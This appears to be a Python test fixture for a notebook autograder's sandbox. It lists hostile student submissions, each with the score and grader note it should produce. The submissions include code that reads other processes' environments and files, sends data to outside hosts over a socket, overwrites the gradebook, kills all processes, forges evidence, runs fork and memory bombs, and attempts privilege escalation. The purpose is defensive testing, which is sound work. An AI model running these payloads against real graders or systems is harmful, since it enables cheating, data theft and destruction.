"""Hostile submissions to the tiny fixture course: each is the reference solution with one
answer cell replaced by an attack (and, where the attack allows it, honest code too).

``attacks(course_root, repo, port)`` returns {student: Attack}. ``expected`` holds the exact
autograded scores the student must get: the points of its honest part and nothing more;
``note`` a phrase the grader's notes on the job must contain.
"""
from __future__ import annotations

from dataclasses import dataclass, field

from tests import course_fixture as fx
from tests.judge_attacks import judge_attacks

FULL = {"relu_test": 2, "double_test": 1, "centroid_test": 2, "train_test": 2}
NONE = {name: 0 for name in FULL}
BEFORE_DOUBLE = {**NONE, "relu_test": 2}   # the kernel dies in the double answer cell
HONEST_DOUBLE = "def double(x):\n    return 2 * x\n"
MARKER = "hostile-marker-7f3a"  # in the command line of every process an attack starts
RACED = f"/tmp/{MARKER}-raced.ipynb"  # the symlink racer's target outside the course


@dataclass
class Attack:
    cell: str
    code: str
    expected: dict
    note: str = ""
    status: str = "graded"
    extra: dict = field(default_factory=dict)


def _gain_if(condition: str) -> str:
    """A double() that is right only if ``condition`` (the attack worked) holds."""
    return (f"if {condition}:\n    def double(x):\n        return 2 * x\n"
            "else:\n    def double(x):\n        return 0\n")


def attacks(course: str, repo: str, port: int) -> dict[str, Attack]:
    source_nb = f"{course}/source/{fx.ASSIGNMENT}/{fx.ASSIGNMENT}.ipynb"
    reference_weights = f"{course}/autograded/reference/{fx.ASSIGNMENT}/tiny_weights.npz"
    spawn = ("import subprocess, sys\n"
             "subprocess.Popen([sys.executable, '-c', CODE, '" + MARKER + "'],"
             " start_new_session=True)\n")
    return {
        # -- reading what the grader keeps: course, solutions, other jobs, the grader side
        "read-course": Attack("double_answer", (
            "import glob, os\nfound = ''\n"
            f"for path in [{source_nb!r}, {course + '/gradebook.db'!r}] + "
            "glob.glob('/proc/*/cwd/../../../source/*/*.ipynb') + glob.glob('/proc/*/root/work/*'):\n"
            "    try:\n        found += open(path, errors='ignore').read()\n"
            "    except OSError:\n        pass\n"
            "for pid in os.listdir('/proc'):\n"
            "    try:\n        found += open(f'/proc/{pid}/cmdline').read() + "
            "open(f'/proc/{pid}/environ').read()\n"
            "    except OSError:\n        pass\n"
            + _gain_if(f"'BEGIN SOLUTION' in found or {course!r} in found")),
            {**FULL, "double_test": 0}),
        "read-other-jobs": Attack("double_answer", (
            "import glob, os\n"
            "own = os.environ['AUTOGRADER_EVIDENCE'].split('/run/')[0]\n"
            "others = [p for p in glob.glob('/tmp/*/j*') + glob.glob('/tmp/*/j*/autograded/*/*')"
            " if not p.startswith(own)]\n" + _gain_if("others")), {**FULL, "double_test": 0}),
        "import-grader-by-path": Attack("double_answer", (
            "import importlib.util\n"
            f"path = {repo + '/autograder/grader/references/training.py'!r}\n"
            "try:\n    spec = importlib.util.spec_from_file_location('ref', path)\n"
            "    spec.loader.exec_module(importlib.util.module_from_spec(spec))\n    ok = True\n"
            "except Exception:\n    ok = False\n" + _gain_if("ok")), {**FULL, "double_test": 0}),
        "symlink-weights": Attack("centroid_answer", (
            f"import os\nos.symlink({reference_weights!r}, 'tiny_weights.npz')\n"),
            {**FULL, "centroid_test": 0}, note="a symbolic link"),
        "hardlink-weights": Attack("centroid_answer", (
            f"import os\ntry:\n    os.link({reference_weights!r}, 'tiny_weights.npz')\n"
            "except OSError:\n    pass\n"), {**FULL, "centroid_test": 0}),
        "copy-weights": Attack("centroid_answer", (
            f"import shutil\ntry:\n    shutil.copy({reference_weights!r}, 'tiny_weights.npz')\n"
            "except OSError:\n    pass\n"), {**FULL, "centroid_test": 0}),
        "network": Attack("double_answer", (
            "import socket\nsent = False\n"
            "for host in ('127.0.0.1', '10.0.2.2', '1.1.1.1'):\n"
            "    try:\n"
            f"        socket.create_connection((host, {port}), timeout=2).sendall(b'hidden tests')\n"
            "        sent = True\n    except OSError:\n        pass\n" + _gain_if("sent")),
            {**FULL, "double_test": 0}),
        # -- changing what the grader keeps, now or later
        "write-course": Attack("double_answer", (
            "import glob\n"
            f"for path in [{source_nb!r}, {course + '/gradebook.db'!r}, {course + '/evil.txt'!r}]"
            " + glob.glob('../../../*.db') + glob.glob('../../../source/*/*.ipynb'):\n"
            "    try:\n        open(path, 'w').write('owned')\n    except OSError:\n        pass\n"
            + HONEST_DOUBLE), FULL),
        "write-outside": Attack("double_answer", (
            "import os, sys\n"
            "for path in ['/usr/evil', sys.prefix + '/evil', '/evil', '/etc/evil', "
            f"{repo + '/autograder/student/evil.py'!r}, '../../../gradebook.db', '../evil']:\n"
            "    try:\n        open(path, 'w').write('owned')\n    except OSError:\n        pass\n"
            + HONEST_DOUBLE), FULL),
        "daemon": Attack("double_answer", (
            "CODE = '''\nimport os, time, sys\nif os.fork() == 0:\n    os.setsid()\n"
            "    if os.fork() == 0:\n        time.sleep(20)\n"
            f"        open({course + '/gradebook.db'!r}, 'w').write('owned later')\n"
            "    os._exit(0)\n'''\n" + spawn + HONEST_DOUBLE), FULL),
        "sigterm-ignorer": Attack("double_answer", (
            "CODE = '''\nimport signal, time\n"
            "for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):\n"
            "    signal.signal(s, signal.SIG_IGN)\nwhile True:\n    time.sleep(0.1)\n'''\n"
            + spawn + HONEST_DOUBLE), FULL),
        "killer": Attack("double_answer", (
            "import os, signal\n"
            "for pid in os.listdir('/proc'):\n"
            "    if pid.isdigit() and int(pid) not in (os.getpid(), 1):\n"
            "        try:\n            os.kill(int(pid), signal.SIGKILL)\n"
            "        except OSError:\n            pass\n"
            "for pid in (os.getppid(), 1):\n"
            "    try:\n        os.kill(pid, signal.SIGKILL)\n    except OSError:\n        pass\n"
            + HONEST_DOUBLE), FULL),
        "startup-planter": Attack("double_answer", (
            "import os\n"
            "for folder in ['~/.ipython/profile_default/startup', '/tmp/.ipython/profile_default/startup']:\n"
            "    folder = os.path.expanduser(folder)\n    os.makedirs(folder, exist_ok=True)\n"
            "    open(folder + '/00-silence.py', 'w').write("
            "'get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)')\n"
            + HONEST_DOUBLE), FULL),
        "planted-verdict": Attack("centroid_answer", (
            "import json, numpy as np\n"
            "np.savez('tiny_weights.npz', W1=np.zeros((784, 10)), b1=np.zeros(10))\n"
            "json.dump({'centroid_test': {'notebook': 'f1_tiny', 'passed': True, 'message': ''}},"
            " open('trusted_judge.json', 'w'))\n"
            "open('GRADING_NOTES.txt', 'w').write('all good')\n"
            "json.dump({'version': 1, 'status': 'graded', 'message': '', 'notes': ['all good'],"
            " 'seconds': 0, 'judge_seconds': 0, 'verdicts': {}, 'fingerprints': {}},"
            " open('grading_record.json', 'w'))\n"
            "json.dump({'tiny_weights.npz': {'planted': True}}, open('model_fingerprints.json', 'w'))\n"),
            {**FULL, "centroid_test": 0}),
        "evidence-symlink": Attack("train_answer", (
            "import os\npath = os.environ['AUTOGRADER_EVIDENCE']\n"
            "try:\n    os.remove(path)\nexcept OSError:\n    pass\n"
            "os.symlink('/etc/passwd', path)\n" + fx.TRAIN_ANSWER),
            # Removing the evidence file deletes the record of the earlier checks too: the
            # judge has nothing to score them with (the saved weights are judged from file).
            {**FULL, "relu_test": 0, "double_test": 0, "train_test": 0}),
        "forged-evidence": Attack("train_answer", (
            "import json, os\n"
            "record = {'kind': 'train_one_epoch', 'name': 'train_one_epoch', 'seed': 0,"
            " 'evidence': {'losses': [1.0], 'loss_types': ['float'], 'n_correct': 3,"
            " 'correct_type': 'int', 'state': {}, 'training': [True]}}\n"
            "for seed in (0, 5):\n"
            "    record['seed'] = seed\n"
            "    open(os.environ['AUTOGRADER_EVIDENCE'], 'a').write(json.dumps(record) + '\\n')\n"
            + fx.NO_ZERO_GRAD), {**FULL, "train_test": 0}),
        # -- exhausting resources: limits, each named in a note
        "memory-bomb": Attack("double_answer", (
            HONEST_DOUBLE + "def bomb():\n    blocks = []\n    while True:\n"
            "        blocks.append(bytearray(256 * 2**20))\n"
            "try:\n    bomb()\nexcept MemoryError as err:\n    print(repr(err), 'MemoryError')\n"),
            FULL, note="memory limit"),
        "fork-bomb": Attack("double_answer", (
            HONEST_DOUBLE + "import os, time\nchildren = []\ntry:\n    for _ in range(300):\n"
            "        pid = os.fork()\n        if pid == 0:\n            time.sleep(2)\n"
            "            os._exit(0)\n        children.append(pid)\nfinally:\n"
            "    for pid in children:\n        os.waitpid(pid, 0)\n"), FULL,
            note="limit on processes"),
        "disk-filler": Attack("double_answer", (
            HONEST_DOUBLE + "import os\nchunk = b'x' * (32 * 2**20)\nfor i in range(100):\n"
            "    with open(f'fill{i}.bin', 'wb') as f:\n        f.write(chunk)\n"),
            BEFORE_DOUBLE, note="total bytes written"),
        "big-file": Attack("double_answer", (
            HONEST_DOUBLE + "with open('big.bin', 'wb') as f:\n"
            "    for _ in range(100):\n        f.write(b'x' * 2**20)\n"),
            FULL, note="file size limit"),
        "output-flood": Attack("double_answer", (
            HONEST_DOUBLE + "line = 'x' * 1023 + '\\n'\nfor _ in range(200):\n"
            "    print(line * 1024, end='')\n"), FULL, note="output limit"),
        "cpu-hog": Attack("double_answer", (
            HONEST_DOUBLE + "import threading\ndef spin():\n    while True:\n        pass\n"
            "for _ in range(3):\n    threading.Thread(target=spin, daemon=True).start()\n"
            "spin()\n"), BEFORE_DOUBLE, note="CPU time limit"),
        "exiter": Attack("double_answer", HONEST_DOUBLE + "import os\nos._exit(1)\n",
                         BEFORE_DOUBLE, note="the kernel died"),
        "endless": Attack("double_answer", "while True:\n    pass\n", BEFORE_DOUBLE,
                          note="CPU time limit"),
        "sleeper": Attack("double_answer", HONEST_DOUBLE + "import time\ntime.sleep(10**6)\n",
                          FULL, note="wall-clock limit and was interrupted"),
        "ignores-interrupts": Attack("double_answer", (
            HONEST_DOUBLE + "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
            "time.sleep(10**6)\n"), BEFORE_DOUBLE, note="the kernel died"),
        "symlink-overwrite": Attack("double_answer", (
            "import os\nos.remove('f1_tiny.ipynb')\n"
            f"os.symlink({source_nb!r}, 'f1_tiny.ipynb')\n"
            f"os.symlink({course + '/gradebook.db'!r}, 'grades.db')\n"
            f"os.symlink({course + '/source'!r}, 'source')\n" + HONEST_DOUBLE), FULL),
        # -- odd files for the coordinator to copy back
        "fifo-and-socket": Attack("double_answer", (
            "import os, socket\nos.mkfifo('trap')\n"
            "socket.socket(socket.AF_UNIX).bind('sock')\n" + HONEST_DOUBLE), FULL,
            note="not a regular file"),
        "many-files": Attack("double_answer", (
            "for i in range(2500):\n    open(f'a{i:05d}.txt', 'w').write('x')\n" + HONEST_DOUBLE),
            FULL, note="more than 2000 files"),
        "deep-folders": Attack("double_answer", (
            "import os\nos.makedirs('/'.join(['d'] * 40), exist_ok=True)\n"
            "open('/'.join(['d'] * 40) + '/x.txt', 'w').write('x')\n" + HONEST_DOUBLE),
            FULL, note="nested deeper"),
        "symlink-loop": Attack("double_answer", (
            "import os\nos.symlink('loop2', 'loop1')\nos.symlink('loop1', 'loop2')\n"
            "os.symlink('/', 'root')\n" + HONEST_DOUBLE), FULL, note="a symbolic link"),
        # -- the grader's own writes into the kernel's folder, and its walks of it
        "symlink-racer": Attack("double_answer", (
            "CODE = '''\nimport os, itertools\n"
            f"targets = itertools.cycle([{course + '/raced.ipynb'!r}, {RACED!r}])\n"
            "while True:\n    try:\n        os.remove('f1_tiny.ipynb')\n"
            "    except OSError:\n        pass\n    try:\n"
            "        os.symlink(next(targets), 'f1_tiny.ipynb')\n    except OSError:\n"
            "        pass\n'''\n" + spawn + "import time\ntime.sleep(0.5)\n" + HONEST_DOUBLE),
            FULL),
        "fifo-notebook": Attack("double_answer", (
            "import os\nos.remove('f1_tiny.ipynb')\nos.mkfifo('f1_tiny.ipynb')\n"
            + HONEST_DOUBLE), FULL, note="f1_tiny.ipynb: not kept (not a regular file)"),
        "very-deep-folders": Attack("double_answer", (
            "import os\ntop = os.open('.', os.O_RDONLY)\nfor _ in range(2000):\n"
            "    os.mkdir('d')\n    os.chdir('d')\nopen('x.txt', 'w').write('x')\n"
            "os.symlink('../' * 3, 'up')\nos.fchdir(top)\n" + HONEST_DOUBLE),
            FULL, note="nested deeper"),
        # 10^5 files cost ~25 s more per job on a loaded 2-core machine: 2 x 10^4 here
        "twenty-thousand-files": Attack("double_answer", (
            "import os\nfor k in range(4):\n    os.mkdir(f'many{k}')\n"
            "    for i in range(5000):\n"
            "        os.close(os.open(f'many{k}/{i}', os.O_CREAT | os.O_WRONLY, 0o644))\n"
            + HONEST_DOUBLE), FULL, note="more than 2000 files"),
        "display-update-flood": Attack("double_answer", (
            "from IPython.display import display\n"
            "for _ in range(40):\n    display('x', display_id='flood')\n"
            "display('y' * 2**19, display_id='flood', update=True)\n" + HONEST_DOUBLE),
            FULL, note="output limit"),
        "clear-output-flood": Attack("double_answer", (
            "from IPython.display import clear_output\nfor _ in range(12):\n"
            "    print('z' * 2**19)\n    clear_output()\n" + HONEST_DOUBLE),
            FULL, note="output limit"),
        "error-flood": Attack("double_answer", (
            HONEST_DOUBLE + "raise ValueError('e' * 12 * 2**20)\n"), FULL, note="output limit"),
        "escape-attempts": Attack("double_answer", (
            "import ctypes, os, subprocess\n"
            "for command in (['unshare', '-r', 'id'], ['mount', '-t', 'tmpfs', 'x', '/mnt'],"
            " ['chroot', '/', 'id']):\n"
            "    try:\n        subprocess.run(command, timeout=5, capture_output=True)\n"
            "    except Exception:\n        pass\n"
            "try:\n    os.setuid(0)\nexcept OSError:\n    pass\n" + _gain_if("os.getuid() == 0")),
            {**FULL, "double_test": 0}),
        **judge_attacks(Attack),
    }
